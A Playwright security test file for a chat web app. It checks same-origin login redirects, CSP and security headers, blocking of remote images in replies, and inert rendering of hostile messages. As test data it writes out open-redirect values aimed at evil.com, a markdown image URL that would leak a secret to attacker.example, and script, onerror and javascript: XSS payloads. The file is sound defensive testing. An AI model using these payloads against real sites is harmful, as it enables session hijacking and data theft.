/**
 * Issue 10: the post-login redirect stays on this origin, pages carry a strict CSP and the
 * security headers, images in replies are never fetched, and hostile messages run nothing.
 */
import type { Page } from "@playwright/test";

import { downTest, expect, serverEnv, test } from "./fixtures";

/** Records every CSP violation the page reports, from before its first script. */
async function watchCsp(page: Page): Promise<() => Promise<string[]>> {
  const consoleErrors: string[] = [];
  page.on("console", (message) => {
    if (message.type() === "error" && /Content Security Policy/i.test(message.text())) consoleErrors.push(message.text());
  });
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener("securitypolicyviolation", (e) => seen.push(`${e.violatedDirective} ${e.blockedURI}`));
  });
  return async () => [
    ...consoleErrors,
    ...(await page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? [])),
  ];
}

downTest("a hostile next after sign-up or login lands on the app's own origin", async ({ page, auth, downBackend }) => {
  // A backend of its own with accounts: this test creates the first one.
  await downBackend.start({ OPENCHAT_AUTH: "required" });
  const appOrigin = new URL(serverEnv("E2E_DOWN_BASE_URL")).origin;
  const email = `mallory-${Date.now().toString(36)}@example.com`;
  // Anything that reaches the other host is recorded (and answered, so a redirect would land).
  const reachedEvil: string[] = [];
  await page.context().route((url) => url.hostname.endsWith("evil.com"), async (route) => {
    reachedEvil.push(route.request().url());
    await route.fulfill({ status: 200, contentType: "text/html", body: "<h1>evil</h1>" });
  });
  const landsHome = async () => {
    await expect(page.getByTestId("composer-input")).toBeVisible();
    expect(new URL(page.url()).origin).toBe(appOrigin);
    expect(new URL(page.url()).pathname).toBe("/");
  };

  // Browsers read "/\evil.com" as "//evil.com", another host.
  await page.goto(`/signup?next=${encodeURIComponent("/\\evil.com")}`);
  await auth.fill(email, "correct-horse-9");
  await auth.submit.click();
  await landsHome();

  // The URL parser drops the tab: "/\t/evil.com" is "//evil.com" too.
  await page.getByTestId("user-menu").click();
  await page.getByTestId("logout").click();
  await page.goto(`/login?next=${encodeURIComponent("/\t/evil.com")}`);
  await auth.login(email, "correct-horse-9");
  await landsHome();

  // Already signed in: the login page sends the user on at once, through the same check.
  await page.goto(`/login?next=${encodeURIComponent("//evil.com/")}`);
  await landsHome();

  // A path on this origin is still followed, query included.
  await page.getByTestId("user-menu").click();
  await page.getByTestId("logout").click();
  await page.goto(`/login?next=${encodeURIComponent("/c/some-conversation?from=login")}`);
  await auth.login(email, "correct-horse-9");
  await expect(page).toHaveURL(`${appOrigin}/c/some-conversation?from=login`);

  expect(reachedEvil).toEqual([]);
});

test("pages carry a nonce-based CSP and the security headers; API answers carry the backend's", async ({ page }) => {
  const response = await page.goto("/");
  const headers = response!.headers();
  const csp = headers["content-security-policy"] ?? "";
  const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
  expect(nonce).toBeTruthy();
  const directives = Object.fromEntries(
    csp.split(";").map((d) => {
      const [name, ...values] = d.trim().split(/\s+/);
      return [name, values.join(" ")];
    }),
  );
  expect(directives).toEqual({
    "default-src": "'self'",
    "script-src": `'self' 'nonce-${nonce}' 'strict-dynamic'`,
    "style-src": "'self' 'unsafe-inline'",
    "img-src": "'self' data: blob:",
    "font-src": "'self'",
    "connect-src": "'self'",
    "object-src": "'none'",
    "base-uri": "'self'",
    "form-action": "'self'",
    "frame-ancestors": "'none'",
  });
  expect(headers["x-content-type-options"]).toBe("nosniff");
  expect(headers["x-frame-options"]).toBe("DENY");
  expect(headers["referrer-policy"]).toBe("same-origin");

  // A fresh nonce on every request, and every script of the page carries it.
  const again = await page.request.get("/login");
  const againNonce = /'nonce-([^']+)'/.exec(again.headers()["content-security-policy"] ?? "")?.[1];
  expect(againNonce).toBeTruthy();
  expect(againNonce).not.toBe(nonce);
  const html = await again.text();
  const scripts = html.match(/<script\b[^>]*>/g) ?? [];
  expect(scripts.length).toBeGreaterThan(0);
  for (const tag of scripts) expect(tag).toContain(`nonce="${againNonce}"`);

  // Static files get nosniff too; the API's answers come from the backend with its own policy.
  const stylesheet = await page.locator('link[rel="stylesheet"]').first().getAttribute("href");
  const css = await page.request.get(stylesheet!);
  expect(css.headers()["x-content-type-options"]).toBe("nosniff");
  const models = await page.request.get("/api/v1/models");
  expect(models.ok()).toBe(true);
  expect(models.headers()["x-content-type-options"]).toBe("nosniff");
  expect(models.headers()["x-frame-options"]).toBe("DENY");
  expect(models.headers()["content-security-policy"]).toContain("default-src 'none'");
  expect(models.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
});

test("chatting, menus, dialogs and math raise no CSP violation", async ({ page, chat }) => {
  const violations = await watchCsp(page);
  await chat.goto("/");
  // A real reply from the model (Markdown and highlighting load on demand), kept short.
  await chat.setMaxTokens(8);
  await chat.sendAndWait("Say hello in one short sentence.");
  const id = await chat.currentConversationId();
  // Menus and dialogs (Radix inserts a style element to lock scrolling).
  await chat.setTheme("dark");
  await expect(page.locator("html")).toHaveClass(/\bdark\b/);
  await chat.setTheme("light");
  await chat.rename(page.locator(`[data-testid="conversation-item"][data-id="${id}"]`), "CSP check");
  // A reload runs the theme script and Next.js's inline scripts again.
  await page.reload();
  await expect(chat.replies).toHaveCount(1);
  // KaTeX writes inline styles; its fonts come from this origin.
  await chat.fakeReplies("Math: $$\\frac{a}{b}$$\n\n```python\nprint('hi')\n```");
  await chat.sendAndWait("Show a fraction.");
  await expect(chat.lastReplyText().locator(".katex")).toHaveCount(1);
  await page.evaluate(() => document.fonts.ready);
  expect(await violations()).toEqual([]);

  // The watch does see a violation when there is one, and the policy blocks an injected
  // onerror handler by itself (if markup ever slipped through the rendering).
  await page.evaluate(() =>
    document.body.insertAdjacentHTML("beforeend", '<img src="/csp-probe.png" onerror="window.__injected = 1">'),
  );
  await expect.poll(violations).toContainEqual("script-src-attr inline");
  expect(await page.evaluate(() => (window as unknown as { __injected?: number }).__injected)).toBeUndefined();
});

test("the chosen dark theme is set by the inline script before the app's code runs", async ({ page, chat }) => {
  const violations = await watchCsp(page);
  await chat.goto("/");
  await chat.setTheme("dark");
  await expect(page.locator("html")).toHaveClass(/\bdark\b/);

  // Without any of the app's script files, only the inline no-flash script can set the theme:
  // it ran, under the CSP, before the page was shown.
  await page.route("**/_next/static/**/*.js", (route) => route.abort());
  await page.reload();
  await expect(page.locator("html")).toHaveClass(/\bdark\b/);
  expect(await page.evaluate(() => document.documentElement.style.colorScheme)).toBe("dark");
  expect(await violations()).toEqual([]);

  await page.unroute("**/_next/static/**/*.js");
  await page.reload();
  await expect(chat.composer).toBeVisible();
  await chat.setTheme("light");
  await expect(page.locator("html")).not.toHaveClass(/\bdark\b/);
  await page.route("**/_next/static/**/*.js", (route) => route.abort());
  await page.reload();
  await expect(page.locator("html")).toHaveClass(/\blight\b/);
});

test("an image in a reply is shown as a link and its URL is never requested", async ({ page, chat }) => {
  const requested: string[] = [];
  await page.context().route(/leak-(remote|local|user)\.png/, async (route) => {
    requested.push(route.request().url());
    await route.fulfill({ status: 200, contentType: "image/png", body: Buffer.alloc(0) });
  });
  const violations = await watchCsp(page);
  await chat.goto("/");
  await chat.fakeReplies(
    "Here is your data: ![the secret](http://attacker.example/leak-remote.png?d=s3cret) and ![local](/leak-local.png?d=s3cret)",
  );
  await chat.sendAndWait("Show me ![me](/leak-user.png?d=mine)");

  const reply = chat.lastReplyText();
  const links = reply.getByTestId("image-link");
  await expect(links).toHaveCount(2);
  await expect(links.nth(0)).toHaveAttribute("href", "http://attacker.example/leak-remote.png?d=s3cret");
  await expect(links.nth(0)).toContainText("the secret");
  await expect(links.nth(0)).toContainText("(http://attacker.example/leak-remote.png?d=s3cret)");
  await expect(links.nth(1)).toHaveAttribute("href", "/leak-local.png?d=s3cret");
  await expect(page.locator("[data-testid^='message'] img")).toHaveCount(0);
  // A user's message is plain text.
  await expect(chat.userMessages.last().getByTestId("message-content")).toHaveText("Show me ![me](/leak-user.png?d=mine)");
  expect(requested).toEqual([]);
  expect(await violations()).toEqual([]);
});

const HOSTILE_USER = `<script>window.__pwned=1</script><img src=x onerror="window.__pwned=1"> [x](javascript:window.__pwned=1)`;
const HOSTILE_REPLY = [
  "<script>window.__pwned=1</script>",
  "",
  'Inline <img src=x onerror="window.__pwned=1"> here.',
  "",
  "[x](javascript:window.__pwned=1)",
].join("\n");
const HOSTILE_TYPED = `<img src=x onerror="window.__pwned=2"><script>window.__pwned=2</script>`;

test("a <script>, onerror or javascript: message and reply run nothing and are stored as sent", async ({ page, chat }) => {
  const violations = await watchCsp(page);
  const popups: string[] = [];
  page.context().on("page", (p) => popups.push(p.url()));
  // A conversation whose earlier reply is hostile: the client sends the whole history, the
  // server stores it (as it would a reply a prompt injection had steered).
  const id = `hostile-${Date.now().toString(36)}`;
  const created = await page.request.post("/api/v1/chat", {
    data: {
      id,
      messages: [
        { role: "user", content: HOSTILE_USER },
        { role: "ai", content: HOSTILE_REPLY },
        { role: "user", content: "Reply with one word." },
      ],
      data: { max_tokens: 4 },
    },
    timeout: 90_000, // the whole (short) reply, from a model that may be busy
  });
  expect(created.status()).toBe(200);
  await created.text();

  await chat.goto(`/c/${id}`);
  await expect(chat.replies).toHaveCount(2);
  await expect(chat.userMessages.first().getByTestId("message-content")).toHaveText(HOSTILE_USER);
  const reply = chat.replies.first().getByTestId("message-content");
  await expect(reply).toContainText("<script>window.__pwned=1</script>");
  await expect(reply).toContainText('Inline <img src=x onerror="window.__pwned=1"> here.');
  await expect(page.locator("[data-testid^='message'] :is(script, img, iframe, object)")).toHaveCount(0);
  await expect(page.locator('a[href^="javascript:" i]')).toHaveCount(0);
  await reply.getByText("x", { exact: true }).click();

  // Typed into the composer, with the real model answering (briefly).
  await chat.setMaxTokens(8);
  await chat.sendAndWait(HOSTILE_TYPED);
  await expect(chat.userMessages.last().getByTestId("message-content")).toHaveText(HOSTILE_TYPED);

  expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
  expect(popups).toEqual([]);
  // Nothing even tried to run (the CSP would have reported it).
  expect(await violations()).toEqual([]);

  // Stored exactly as sent.
  const stored = await page.request.get(`/api/v1/conversations/${id}`);
  const messages = ((await stored.json()) as { messages: { role: string; content: string }[] }).messages;
  expect(messages.map((m) => [m.role, m.content]).filter(([role]) => role === "user")).toEqual([
    ["user", HOSTILE_USER],
    ["user", "Reply with one word."],
    ["user", HOSTILE_TYPED],
  ]);
  expect(messages[1]).toMatchObject({ role: "ai", content: HOSTILE_REPLY });
});
